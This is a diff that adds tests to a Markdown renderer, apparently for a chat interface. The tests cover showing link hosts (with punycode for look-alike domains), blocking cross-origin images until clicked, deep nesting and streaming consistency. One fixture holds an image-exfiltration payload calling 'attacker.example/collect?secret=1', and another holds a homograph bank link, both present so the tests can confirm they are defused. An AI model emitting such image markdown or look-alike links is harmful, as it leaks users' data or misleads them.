@@ -1,6 +1,8 @@
-import { cleanup, render } from '@testing-library/react';
+import { cleanup, fireEvent, render } from '@testing-library/react';
+import fc from 'fast-check';
 import { afterEach, describe, expect, it } from 'vitest';
 import { Markdown } from './markdown.js';
+import { AllowedImageOriginsContext } from './media-policy.js';
 
 afterEach(cleanup);
 
@@ -41,5 +43,63 @@ describe('Markdown', () => {
     const { container } = render(<Markdown text={'Here is **bold and\n\n```ts\nconst x ='} />);
     expect(container.querySelector('strong')!.textContent).toBe('bold and');
     expect(container.querySelector('.acu-code code')!.textContent).toContain('const x =');
+  });
+
+  it('shows where a link goes: its host after its text (punycode for look-alike names); a bare URL shows itself', () => {
+    const { container } = render(<Markdown text={'[your bank](https://bаnk.example/login) and https://plain.example/x done'} />);
+    const [named, bare] = [...container.querySelectorAll('a')];
+    expect(named!.textContent).toMatch(/^your bank \(xn--[a-z0-9-]+\.example\)$/);
+    expect(named!.querySelector('.acu-markdown__host')).not.toBeNull();
+    expect(bare!.textContent).toBe('https://plain.example/x');
+    expect(bare!.getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('loads an image from another origin only after a click, unless its origin is allowed; data: and same-origin load', () => {
+    const text = '![secret](https://attacker.example/collect?secret=1) ![ok](https://cdn.example.com/a.png) ![inline](data:image/png;base64,AAAA) ![local](/logo.png)';
+    const blocked = render(<Markdown text={text} />);
+    const sources = () => [...blocked.container.querySelectorAll('img')].map((image) => image.getAttribute('src'));
+    expect(sources()).toEqual(['data:image/png;base64,AAAA', '/logo.png']);
+    const buttons = [...blocked.container.querySelectorAll('button')].filter((button) => button.textContent!.startsWith('Load image'));
+    expect(buttons.map((button) => button.textContent)).toEqual(['Load image from attacker.example', 'Load image from cdn.example.com']);
+    expect(blocked.container.textContent).toContain('secret');
+    fireEvent.click(buttons[1]!);
+    expect(sources()).toContain('https://cdn.example.com/a.png');
+    expect(sources()).not.toContain('https://attacker.example/collect?secret=1');
+    cleanup();
+
+    const allowed = render(
+      <AllowedImageOriginsContext.Provider value={['https://cdn.example.com']}>
+        <Markdown text={text} />
+      </AllowedImageOriginsContext.Provider>,
+    );
+    const allowedSources = [...allowed.container.querySelectorAll('img')].map((image) => image.getAttribute('src'));
+    expect(allowedSources).toContain('https://cdn.example.com/a.png');
+    expect(allowedSources).not.toContain('https://attacker.example/collect?secret=1');
+    expect(allowed.container.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
+  });
+
+  it('renders 3,000 nested blockquotes and lists without overflowing the stack: the deep text shows as text', () => {
+    const quotes = render(<Markdown text={'>'.repeat(3000) + ' deep text'} />);
+    expect(quotes.container.textContent).toContain('deep text');
+    expect(quotes.container.querySelectorAll('blockquote').length).toBeLessThan(20);
+    const list = Array.from({ length: 3000 }, (_, level) => `${'  '.repeat(level)}- item ${level}`).join('\n');
+    const lists = render(<Markdown text={list} />);
+    expect(lists.container.textContent).toContain('item 2999');
+  });
+
+  it('streamed in random pieces, renders the same DOM as the whole text rendered at once', () => {
+    const snippets = ['# ', '> ', '- ', '1. ', '```ts\n', '```\n', '`', '**', '*', '_', '~~', '[a](https://example.com/x)', '![i](/i.png)', '| a | b |\n|---|---|\n', 'word ', '\n', '\n\n'];
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...snippets), { maxLength: 40 }), fc.array(fc.nat(), { maxLength: 8 }), (parts, cuts) => {
+        const text = parts.join('');
+        const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
+        const streamed = render(<Markdown text="" />);
+        for (const point of [...points, text.length]) streamed.rerender(<Markdown text={text.slice(0, point)} />);
+        const whole = render(<Markdown text={text} />);
+        expect(streamed.container.innerHTML).toBe(whole.container.innerHTML);
+        cleanup();
+      }),
+      { seed: 1813, numRuns: 60 },
+    );
   });
 });
